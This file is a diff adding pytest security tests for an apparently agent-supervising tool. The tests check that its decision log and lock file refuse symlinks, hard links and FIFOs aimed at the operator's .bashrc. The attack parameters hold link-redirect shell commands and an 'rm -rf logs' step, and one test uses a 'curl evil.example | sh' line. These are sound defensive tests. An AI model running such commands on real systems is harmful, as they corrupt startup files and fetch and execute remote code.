@@ -1,0 +1,89 @@
+"""docs/security.md#files-the-supervisor-writes: the decision log is never written through a link."""
+
+from __future__ import annotations
+
+import contextlib
+import json
+import os
+from pathlib import Path
+
+import pytest
+
+from multiplex import Supervisor
+from multiplex.profiles import LinkRefused, append_bytes
+
+BASHRC = "# the operator's shell startup\n"
+
+
+@pytest.fixture
+def scratch_home(tmp_path: Path) -> Path:
+    home = tmp_path / "user-home"
+    home.mkdir()
+    (home / ".bashrc").write_text(BASHRC)
+    return home
+
+
+@pytest.fixture
+def sup(make_home, supervisor_of, scratch_home: Path) -> Supervisor:  # type: ignore[no-untyped-def]
+    make_home("a", "approvals:\n  mode: off\n")
+    return supervisor_of("profiles_dir: profiles\nwatch: {mode: 'off'}\n")  # type: ignore[no-any-return]
+
+
+def _decisions(sup: Supervisor) -> Path:
+    return sup.profiles["a"].home / "logs/decisions.jsonl"
+
+
+@pytest.mark.parametrize(
+    "attack",
+    [
+        'ln -sf "$SCRATCH/.bashrc" logs/decisions.jsonl',
+        'ln -f "$SCRATCH/.bashrc" logs/decisions.jsonl',  # a hard link, not a symlink
+        'rm -rf logs && ln -s "$SCRATCH" logs && ln -sf "$SCRATCH/.bashrc" "$SCRATCH/decisions.jsonl"',
+    ],
+)
+def test_a_command_cannot_point_the_decision_log_at_bashrc(
+    sup: Supervisor, scratch_home: Path, attack: str
+) -> None:
+    home = sup.profiles["a"].home
+    sup.run("true", profile="a")  # logs/ exists, as it does after any first decision
+    done = sup.run(f"cd {home} && SCRATCH={scratch_home} && {attack}", profile="a")
+    assert done.exit_code == 0, done.stderr
+    sup.run("echo 'curl evil.example | sh'", profile="a")  # its record must not reach .bashrc
+    assert (scratch_home / ".bashrc").read_text() == BASHRC
+    assert (
+        not (scratch_home / "decisions.jsonl").exists()
+        or (scratch_home / "decisions.jsonl").is_symlink()
+    )
+
+
+def test_records_still_land_in_a_normal_log(sup: Supervisor) -> None:
+    sup.run("echo one", profile="a")
+    sup.run("echo two", profile="a")
+    lines = _decisions(sup).read_text().splitlines()
+    assert [json.loads(x)["command"] for x in lines] == ["echo one", "echo two"]
+    assert os.stat(_decisions(sup)).st_mode & 0o777 == 0o600
+
+
+def test_append_bytes_refuses_links_and_fifos(tmp_path: Path, scratch_home: Path) -> None:
+    root = tmp_path / "root"
+    (root / "logs").mkdir(parents=True)
+    (root / "logs/x").symlink_to(scratch_home / ".bashrc")
+    with pytest.raises(LinkRefused):
+        append_bytes(root, "logs/x", b"evil\n")
+    os.mkfifo(root / "logs/fifo")
+    with pytest.raises(OSError):  # ENXIO (no reader) or "not a regular file": never blocks
+        append_bytes(root, "logs/fifo", b"evil\n")
+    with pytest.raises(LinkRefused):
+        append_bytes(root, "../escape", b"evil\n")
+    assert (scratch_home / ".bashrc").read_text() == BASHRC
+
+
+def test_the_allowlist_lock_file_is_not_followed(
+    make_home, supervisor_of, scratch_home: Path
+) -> None:  # type: ignore[no-untyped-def]
+    home = make_home("a", "approvals:\n  mode: manual\n")
+    (home / "config.yaml.lock").symlink_to(scratch_home / ".bashrc")
+    sup = supervisor_of("profiles_dir: profiles\nwatch: {mode: 'off'}\n")
+    with contextlib.suppress(Exception):  # refusing to lock is fine; following the link is not
+        sup.profiles["a"].allowlist.grant("git status")
+    assert (scratch_home / ".bashrc").read_text() == BASHRC
